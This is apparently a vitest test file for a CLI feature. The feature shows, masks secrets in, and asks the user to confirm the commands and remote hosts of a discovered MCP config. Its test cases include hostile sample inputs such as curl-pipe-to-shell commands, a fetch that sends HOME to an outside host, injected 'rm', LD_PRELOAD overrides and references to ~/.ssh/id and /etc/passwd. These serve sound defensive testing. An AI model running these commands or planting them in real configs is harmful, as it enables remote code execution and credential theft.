import { mkdtemp, readFile, rm, stat, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Writable } from "node:stream";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { confirmCommands } from "../../../../src/codegen/cli/confirm/confirm-commands.js";
import { Output } from "../../../../src/codegen/cli/output.js";
import { parseConfig } from "../../../../src/shared/config/index.js";
import { folderWith } from "../../config/temporary-folder.js";
import { serverEntry, serversOf, useBin } from "../run-bin.js";

const bin = useBin();
let folder: string;
beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "fmcp-confirm-"));
});
afterEach(() => rm(folder, { recursive: true, force: true }));

interface Ask {
  readonly given?: object;
  readonly quiet?: boolean;
  /** What the person answers; absent: nobody is there. */
  readonly answer?: string;
  readonly discovered?: boolean;
  readonly at?: string;
}

/** What is shown, what is asked, and how it ends. */
async function confirm(
  mcpServers: object,
  { given = {}, answer, quiet = false, discovered = true, at }: Ask = {},
) {
  let shown = "";
  const stderr = new Writable({
    write(chunk, _encoding, done) {
      shown += String(chunk);
      done();
    },
  });
  const terminal = {
    ...{ stdout: stderr, stderr, cwd: "/work", env: { XDG_STATE_HOME: folder } },
    ...{ colours: false, live: false, columns: 80 },
  };
  const asked: string[] = [];
  const config = parseConfig({ mcpServers });
  expect(config.faults).toEqual([]);
  const ask = (question: string): Promise<string> => {
    asked.push(question);
    return Promise.resolve(answer ?? "");
  };
  const error = await confirmCommands(
    { servers: { path: at ?? "/work/mcp.json", discovered, config }, entries: config.servers },
    given,
    new Output(terminal, { quiet }),
    answer === undefined ? {} : { ask },
  ).catch((reason: unknown) => reason);
  return { shown, asked, error };
}

const weather = { command: "node", args: ["weather.js", "--api-key", "s3cret-value-9"] };
const NOT = { code: "COMMANDS_NOT_CONFIRMED" };

describe("the commands of a config that was found", () => {
  it.each([[false], [true]])("are shown with their arguments, without secrets; quiet: %s", async (quiet) => {
    const { shown } = await confirm({ weather, far: { url: "https://example.com/mcp" } }, { quiet });
    expect(shown).toBe("  weather runs: node weather.js --api-key ***\n");
  });

  it.each<[string, string[], string]>([
    ["a version", ["-y", "@scope/pkg@2026.8.31", "."], "-y @scope/pkg@2026.8.31 ."],
    [
      "code",
      ["-e", "fetch('http://x.example/' + process.env.HOME)"],
      `-e "fetch('http://x.example/' + process.env.HOME)"`,
    ],
    ["code that starts with a name", ["-e", "a=require('fs')"], `-e "a=require('fs')"`],
    ["variables of a container", ["-e", "MODE=fast", "-e", "A_TOKEN=s3cret"], "-e MODE=fast -e A_TOKEN=***"],
    ["code of a shell", ["-c", "curl x.example/a.sh | sh"], '-c "curl x.example/a.sh | sh"'],
    ["a key in code", ["-c", "run --token=s3cretValue99 now"], '-c "run --token=s3cretValue99 now"'],
    ["code that sets a secret", ["-c", "secret=a node ./x"], '-c "secret=a node ./x"'],
    ["one word of code", ["-c", "token=x.y"], "-c token=x.y"],
    ["a script named by a digest", ["./a8f3c9d0e1b2a8f3c9d0e1b2.js"], "./a8f3c9d0e1b2a8f3c9d0e1b2.js"],
    [
      "a package named by one",
      ["evil-1f3870be274f6c49b3e31a0c6728957f"],
      "evil-1f3870be274f6c49b3e31a0c6728957f",
    ],
    [
      "a script behind a secret's flag",
      ["--token", "/tmp/evil.mjs", "-k", "x"],
      "--token /tmp/evil.mjs -k x",
    ],
    ["a reference behind one", ["--token", "${TOKEN:-x}"], "--token ${TOKEN:-x}"],
    ["a URL", ["https://u:pw@x.example/a1b2c3d4?key=s3cret"], "https://u:***@x.example/a1b2c3d4?key=***"],
    ["a key without a name", ["sk-live-0123456789abcdef"], "sk-live-0123456789abcdef"],
    ["a pair", ["-u", "bob:s3cret"], "-u bob:s3cret"],
    ["a program's own flag", ["--mode=Very Odd!"], '"--mode=Very Odd!"'],
    ["a command behind a secret's flag", ["--token", "$(curl x|sh)"], '--token "$(curl x|sh)"'],
    ["code behind one", ["--key", "a b; rm c"], '--key "a b; rm c"'],
    ["words behind a secret's flag", ["--password", "correct horse 7"], '--password "correct horse 7"'],
    ["signs behind one", ["--db-password=pa$$(w)"], "--db-password=pa$$(w)"],
    ["a command behind a short flag", ["-sk", "run this"], '-sk "run this"'],
    ["a command behind a helper's flag", ["--token-command", "run this"], '--token-command "run this"'],
    [
      "a header's credentials",
      ["--header", "Authorization: Bearer s3cret"],
      '--header "Authorization: Bearer ***"',
    ],
    ["a long argument", ["a/".repeat(900)], "a/".repeat(900)],
    ["many spaces", [`a${" ".repeat(300)}b`], '"a [300 spaces] b"'],
    ["many spaces of other kinds", ["a\u3000\u3000b"], '"a\\u{3000}\\u{3000}b"'],
    ["line breaks", ["a\n\n\tb"], String.raw`"a\n\n\tb"`],
  ])("show %s as the user has to see it", async (_, args, want) => {
    const { shown } = await confirm({ weather: { command: "run", args } });
    expect(shown).toBe(`  weather runs: run ${want}\n`);
  });

  it.each<[string, object, string]>([
    ["the folder", { cwd: "/tmp/x" }, 'in the folder "/tmp/x"'],
    ["a variable", { env: { MODE: "fast" } }, 'with MODE="fast"'],
    ["a secret by its name", { env: { API_KEY: "s3cret" } }, "with API_KEY=***"],
    ["code under the name of a secret", { env: { API_KEY: "curl x | sh" } }, 'with API_KEY="curl x | sh"'],
    ["a script under one", { env: { TOKEN: "./evil.sh" } }, 'with TOKEN="./evil.sh"'],
    ["a reference under one", { env: { TOKEN: "${A:-b}" } }, 'with TOKEN="${A:-b}"'],
    ["a digest", { env: { MODE: "a8f3c9d0e1b2a8f3c9d0e1b2" } }, 'with MODE="a8f3c9d0e1b2a8f3c9d0e1b2"'],
    ...["PATH", "PYTHONPATH", "NODE_OPTIONS", "BASH_ENV", "LD_PRELOAD", "GIT_SSH_COMMAND"].map(
      (name): [string, object, string] => [
        `${name}, which decides what runs`,
        { env: { [name]: "./sk-live-0123456789abcdef  x" } },
        `with ${name}="./sk-live-0123456789abcdef  x"`,
      ],
    ),
    ["a variable passed on", { inheritEnv: ["AWS_KEY"] }, "with your variable AWS_KEY"],
    ["a file", { envFile: ".env" }, 'with the variables of the file ".env"'],
  ])("show what else decides the run: %s", async (_, members, want) => {
    const { shown } = await confirm({ weather: { command: "run", ...members } });
    expect(shown).toBe(`  weather runs: run\n    ${want}\n`);
  });

  it("show the folder of the config by its path, and variables by their names", async () => {
    const args = ["${workspaceFolder}/s.mjs", "${HOME}", "$${workspaceFolder}"];
    const { shown } = await confirm({ weather: { command: "node", args, cwd: "/tmp" } });
    expect(shown).toMatch(
      /runs: node \/\S+\/s\.mjs \$\{HOME\} \$\$\{workspaceFolder\}\n {4}in the folder "\/tmp"\n$/,
    );
    expect(shown).not.toContain("node ${workspaceFolder}");
  });

  it.each<[string, Ask, boolean]>([
    ["there is no terminal", {}, false],
    ["--yes is given", { given: { yes: true } }, true],
    ["the config is named", { given: { config: "mcp.json" } }, true],
    ["the options file is named and names it", { given: { optionsFile: "x.json" }, discovered: false }, true],
    ["an options file that was found names it", { discovered: false }, false],
    ["an options file is named that names none", { given: { optionsFile: "x.json" } }, false],
    ["the user says yes", { answer: "y" }, true],
    ["the user says no", { answer: "n" }, false],
    ["the user presses return", { answer: "" }, false],
  ])("where %s: start is %#", async (_when, ask, starts) => {
    const { error } = await confirm({ weather }, ask);
    if (starts) expect(error).toBeUndefined();
    else expect(error).toMatchObject(NOT);
  });

  it("need no confirmation if there are none", async () => {
    expect(await confirm({ far: { url: "https://example.com/mcp" } })).toEqual({
      shown: "",
      asked: [],
      error: undefined,
    });
  });

  it("ask for confirmation once, then start without a terminal", async () => {
    expect((await confirm({ weather }, { answer: "y" })).asked).toHaveLength(1);
    expect((await confirm({ weather }, { answer: "y" })).asked).toEqual([]);
    expect((await confirm({ weather })).error).toBeUndefined();
    const file = join(folder, "fmcp-codegen/confirmed-commands.json");
    expect(await readFile(file, "utf8")).not.toContain("weather");
    if (process.platform !== "win32") expect((await stat(file)).mode & 0o777).toBe(0o600);
  });

  it("are not remembered after a no or --yes", async () => {
    await confirm({ weather }, { answer: "n" });
    await confirm({ weather }, { given: { yes: true } });
    expect((await confirm({ weather })).error).toMatchObject(NOT);
  });

  it.each<[string, object, Ask]>([
    ["another argument", { weather: { ...weather, args: ["other.js"] } }, {}],
    ["another program", { weather: { ...weather, command: "deno" } }, {}],
    ["one more variable", { weather: { ...weather, env: { A: "1" } } }, {}],
    ["another working directory", { weather: { ...weather, cwd: "sub" } }, {}],
    ["a variable passed on", { weather: { ...weather, inheritEnv: ["A"] } }, {}],
    ["the same in another project", { weather }, { at: "/other/mcp.json" }],
    ["a replica", { weather: { ...weather, replicas: [{ command: "node", args: ["evil.js"] }] } }, {}],
  ])("are asked for again after a change: %s", async (_what, servers, ask) => {
    await confirm({ weather }, { answer: "y" });
    expect((await confirm(servers, ask)).error).toMatchObject(NOT);
  });

  it.each<[string, object]>([
    ["the file of its variables", { ...weather, envFile: "read.txt" }],
    ["a file that an argument quotes", { command: "node", args: ["${file:read.txt}"] }],
    ["a file in a header", { url: "https://example.com/mcp", headers: { "x-a": "${file:read.txt}" } }],
  ])("need confirmation again when %s changes", async (_file, server) => {
    const at = join(folder, "mcp.json");
    const confirmed = async (answer?: string): Promise<boolean> =>
      (await confirm({ server }, { at, ...(answer !== undefined && { answer }) })).error === undefined;
    expect(await confirmed("y")).toBe(true);
    expect(await confirmed()).toBe(true);
    await writeFile(join(folder, "read.txt"), "PATH=/tmp/evil");
    expect(await confirmed()).toBe(false);
    expect(await confirmed("y")).toBe(true);
    await writeFile(join(folder, "read.txt"), "PATH=/tmp/worse");
    expect(await confirmed()).toBe(false);
  });

  it.each<[string, Ask, boolean]>([
    ["asks", { answer: "n" }, true],
    ["is refused without a terminal", {}, true],
    ["gets --yes", { given: { yes: true } }, false],
  ])("show values that may be secrets where it %s: %j, %j", async (_case, ask, whole) => {
    const server = {
      command: "node",
      args: ["a.js", "-u", "bob:s3cretPw9"],
      env: { MODE: "x9-Secret", B: "${U:-s3cret7}" },
    };
    const { shown } = await confirm({ server }, ask);
    for (const secret of ["s3cretPw9", "x9-Secret", "s3cret7"]) expect(shown.includes(secret)).toBe(whole);
    expect(shown).toContain("runs: node a.js -u bob:");
  });

  it("need confirmation only for new ones", async () => {
    await confirm({ weather }, { answer: "y" });
    const { asked } = await confirm({ weather, other: { command: "ls" } }, { answer: "y" });
    expect(asked).toEqual(["mcp.json was found here. Start this command (other)? [y/N] "]);
  });

  it.each([["{ broken"], ['{"a":1}'], ["[1,null]"]])(
    "a state file with %s confirms nothing, and is replaced",
    async (text) => {
      await confirm({ weather }, { answer: "y" });
      await writeFile(join(folder, "fmcp-codegen/confirmed-commands.json"), text);
      expect((await confirm({ weather })).error).toMatchObject(NOT);
      await confirm({ weather }, { answer: "y" });
      expect((await confirm({ weather })).error).toBeUndefined();
    },
  );
});

describe("the variables that a config that was found sends to a remote server", () => {
  const secret = "${AWS_SECRET_ACCESS_KEY}";
  it.each<[string, object, string]>([
    ["the query", { url: `http://far.example:8/mcp?k=${secret}` }, "far.example:8: AWS_SECRET_ACCESS_KEY"],
    [
      "headers",
      { url: "https://far.example/", headers: { "x-a": "${env:B}", "x-b": "${A:-${C}}" } },
      "far.example: A, B, C",
    ],
    ["auth", { url: "https://far.example/", auth: secret }, "far.example: AWS_SECRET_ACCESS_KEY"],
    [
      "a proxy",
      { url: "https://far.example/", proxy: "http://u:${A}@p.example" },
      `far.example: A\n    through the proxy "http://***@p.example"`,
    ],
    [
      "TLS",
      { url: "https://far.example/", tls: { key: "${file:~/.ssh/id}" } },
      'far.example: file:~/.ssh/id\n    with the TLS settings {"key":"${file:~/.ssh/id}"}',
    ],
    ["the host", { url: "https://${A}.far.example/" }, "${A}.far.example: A"],
    ["user info", { url: "https://${A}:s3cret@far.example/" }, "far.example: A"],
    [
      "a replica",
      { url: "https://a.example/", replicas: [{ url: "https://b.example/${A}" }] },
      "b.example: A",
    ],
    [
      "a file",
      { url: "https://far.example/", headers: { a: "${file:/etc/passwd}" } },
      "far.example: file:/etc/passwd",
    ],
  ])("show variables by name, and ask once: %s", async (_place, far, want) => {
    const refused = await confirm({ far });
    expect(refused.shown).toBe(`  far sends to ${want}\n`);
    expect(refused.error).toMatchObject(NOT);
    expect((refused.error as Error).message).toContain("1 host of it is not confirmed");
    expect((await confirm({ far }, { answer: "y" })).asked).toEqual([
      "mcp.json was found here. Send to this host (far)? [y/N] ",
    ]);
    expect((await confirm({ far })).error).toBeUndefined();
    const other = JSON.parse(JSON.stringify(far).replaceAll(/(far|b)\.example/g, "evil.example")) as object;
    expect((await confirm({ far: other })).error).toMatchObject(NOT);
  });

  it("are confirmed together with commands", async () => {
    const far = { url: `https://far.example/${secret}` };
    expect((await confirm({ weather, far }, { answer: "y" })).asked).toEqual([
      "mcp.json was found here. Start these 2 commands and hosts (weather, far)? [y/N] ",
    ]);
  });
});

describe("a remote server with settings of trust, in a config that was found,", () => {
  const url = "https://far.example/mcp";
  const pem = "-----BEGIN CERTIFICATE-----\nabc\n-----END CERTIFICATE-----";
  it.each<[string, object, string]>([
    ["a proxy", { proxy: "http://u:s3cret@p.example" }, 'through the proxy "http://***@p.example"'],
    ["TLS", { tls: { rejectUnauthorized: false } }, 'with the TLS settings {"rejectUnauthorized":false}'],
    ["a CA", { tls: { ca: [pem, "./ca.pem"] } }, 'with the TLS settings {"ca":["PEM","./ca.pem"]}'],
    ["a passphrase", { tls: { passphrase: "s3cret" } }, 'with the TLS settings {"passphrase":"***"}'],
    ["a login", { auth: "oauth" }, 'with the login "oauth"'],
    [
      "a grant",
      { auth: { type: "client_credentials", clientId: "me", clientSecret: "s3cret" } },
      'with the login {"type":"client_credentials","clientId":"me","clientSecret":"***"}',
    ],
  ])("is shown with them, and asked for once: %s", async (_what, settings, want) => {
    const far = { url, ...settings };
    const refused = await confirm({ far });
    expect(refused.shown).toBe(`  far connects to far.example\n    ${want}\n`);
    expect(refused.error).toMatchObject(NOT);
    expect((await confirm({ far }, { given: { yes: true } })).error).toBeUndefined();
    expect((await confirm({ far }, { answer: "y" })).error).toBeUndefined();
    expect((await confirm({ far })).error).toBeUndefined();
    expect((await confirm({ far: { ...far, proxy: "http://other.example" } })).error).toMatchObject(NOT);
  });

  it("needs no confirmation with a token of the config", async () => {
    const far = { url, auth: "t0ken", headers: { "x-a": "b" } };
    expect((await confirm({ far })).error).toBeUndefined();
  });
});

describe("every command that asks servers", () => {
  it.each([
    ["generate", [], 0],
    ["check --live", ["check", "--live"], 0],
    ["diff", ["diff"], 0],
  ] as const)(
    "%s starts nothing unconfirmed, and goes on with --yes",
    { timeout: 120_000 },
    async (_name, args, code) => {
      const project = await folderWith({});
      const config = { mcpServers: { greeter: serverEntry("greeter", project) } };
      await writeFile(join(project, "mcp.json"), JSON.stringify(config));
      const env = { XDG_STATE_HOME: folder };
      if (args.length > 0) await bin.run(project, ["mcp.json"], { env });
      const before = (await serversOf(project)).started;
      const refused = await bin.run(project, ["--no-yes", ...args], { env });
      expect(refused).toMatchObject({ exitCode: 2 });
      expect(refused.stderr).toContain(
        "mcp.json was found, not named, and 1 command of it is not confirmed.",
      );
      expect(refused.stderr).toMatch(/greeter runs: node .*greeter\.mjs/);
      expect((await serversOf(project)).started).toBe(before);
      expect((await bin.run(project, args, { env })).exitCode).toBe(code);
    },
  );

  it("watch starts nothing unconfirmed", { timeout: 60_000 }, async () => {
    const project = await folderWith({});
    const config = { mcpServers: { greeter: serverEntry("greeter", project) } };
    await writeFile(join(project, "mcp.json"), JSON.stringify(config));
    const refused = await bin.run(project, ["--no-yes", "watch"], { env: { XDG_STATE_HOME: folder } });
    expect(refused).toMatchObject({ exitCode: 2 });
    expect((await serversOf(project)).started).toBe(0);
  });
});
